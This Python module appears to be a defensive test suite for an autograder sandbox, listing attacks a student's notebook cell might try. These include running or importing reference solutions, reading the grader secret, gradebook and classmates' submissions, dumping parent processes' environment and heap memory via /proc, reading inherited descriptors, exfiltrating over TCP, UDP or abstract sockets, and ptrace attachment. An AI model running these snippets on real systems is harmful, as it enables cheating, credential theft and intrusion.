"""Attacks that read what is not theirs (answers, keys, marks, other people's work), or send it out."""

from .attack import Observed, attack

CANARY = "a-secret-of-the-graders"

OPENS = """def linear_unit(X, w, w0):
    found = {}
    exec(open("<course>/solutions/lesson_01_linear_units/reference.py").read(), found)
    return found["linear_unit"](X, w, w0)"""


@attack("no_locks", answers={"linear_unit": OPENS})
def the_reference_is_opened_as_a_file(observed: Observed) -> bool:
    """Knows where the course lies, and runs the reference from there."""
    return observed.earned("linear_unit")


IMPORTS = """def linear_unit(X, w, w0):
    from solutions.lesson_01_linear_units.reference import linear_unit
    return linear_unit(X, w, w0)"""


@attack("no_locks", answers={"linear_unit": IMPORTS})
def the_solutions_are_imported(observed: Observed) -> bool:
    """Imports the course's package, which is installed where the grader's packages are."""
    return observed.earned("linear_unit")


@attack("no_locks", cell="print(len(open('<course>/.autograder/secret', 'rb').read()), 'bytes')")
def the_secret_is_read(observed: Observed) -> bool:
    """Reads the secret from which all hidden data are derived."""
    return "32 bytes" in observed.text


@attack("no_locks", cell="print(open('<course>/gradebook.db', 'rb').read(15))")
def the_gradebook_is_read(observed: Observed) -> bool:
    """Reads everybody's marks."""
    return "SQLite format 3" in observed.text


COPIES = """import json
for cell in json.load(open("<right>"))["cells"]:
    if cell["id"] == "solve_linear_unit":
        exec("".join(cell["source"]))"""


@attack("no_locks", answers={"linear_unit": COPIES})
def a_neighbours_answer_is_copied(observed: Observed) -> bool:
    """Looks into the folders of the others, and runs an answer from there."""
    return observed.earned("linear_unit")


@attack("no_locks", cell="import os\nprint(os.listdir('<course>/submitted'))")
def the_others_are_listed(observed: Observed) -> bool:
    """Finds out who else handed in."""
    return "-right" in observed.text


ANCESTORS = """import os
def parent(process):
    return int(open(f"/proc/{process}/stat").read().rpartition(")")[2].split()[1])
process, ancestors = os.getpid(), []
while (process := parent(process)) > 1:
    ancestors.append(process)
"""


@attack("no_locks", cell=ANCESTORS + "for process in ancestors:\n    print(open(f'/proc/{process}/environ').read())")
def the_environment_of_the_grader_is_read(observed: Observed) -> bool:
    """Reads the environment of every process above its own, where passwords of databases stand."""
    return CANARY in observed.text


MEMORY = """
for process in ancestors:
    heap = next(line for line in open(f"/proc/{process}/maps") if "[heap]" in line)
    with open(f"/proc/{process}/mem", "rb") as memory:
        memory.seek(int(heap.split("-")[0], 16))
        print(len(memory.read(64)), "bytes of somebody's memory")"""


@attack("no_locks", cell=ANCESTORS + MEMORY)
def the_memory_of_the_grader_is_read(observed: Observed) -> bool:
    """Reads the memory of every process above its own, where the reference and the keys are."""
    return "64 bytes of somebody's memory" in observed.text


@attack("shared", cell="import os\nprint(dict(os.environ))")
def the_environment_is_inherited(observed: Observed) -> bool:
    """Looks whether the grader's environment came along."""
    return CANARY in observed.text


DESCRIPTORS = """import os
for descriptor in range(3, 256):
    try:
        print(os.pread(descriptor, 1000, 0))
    except OSError:
        pass"""


@attack("shared", cell=DESCRIPTORS)
def open_files_are_inherited(observed: Observed) -> bool:
    """Reads from every descriptor that the grader forgot to close."""
    return CANARY in observed.text


CONNECTION = "import socket\nsocket.create_connection(('127.0.0.1', <port>)).sendall(b'<name>')"


@attack("no_locks", cell=CONNECTION)
def the_network_is_used(observed: Observed) -> bool:
    """Sends what it knows to another machine."""
    return "the_network_is_used" in observed.received


DATAGRAM = "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'<name>', ('127.0.0.1', <port>))"


@attack("no_locks", cell=DATAGRAM)
def a_datagram_is_sent(observed: Observed) -> bool:
    """Sends what it knows without a connection, as a name server is asked."""
    return "a_datagram_is_sent" in observed.received


ABSTRACT_SOCKET = "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('\\0<socket>')\ns.sendall(b'<name>')"


@attack("no_locks", cell=ABSTRACT_SOCKET)
def a_socket_without_a_file_is_found(observed: Observed) -> bool:
    """Connects to a service of this machine by an abstract socket, which is no file."""
    return "a_socket_without_a_file_is_found" in observed.received


TRACES = """import ctypes
libc = ctypes.CDLL(None)
PTRACE_SEIZE = 0x4206
assert libc.ptrace(PTRACE_SEIZE, <victim>, 0, 0) == 0
print("attached to a process")"""


@attack("no_locks", cell=TRACES)
def another_process_is_traced(observed: Observed) -> bool:
    """Attaches to another process as a debugger does."""
    return "attached to a process" in observed.text
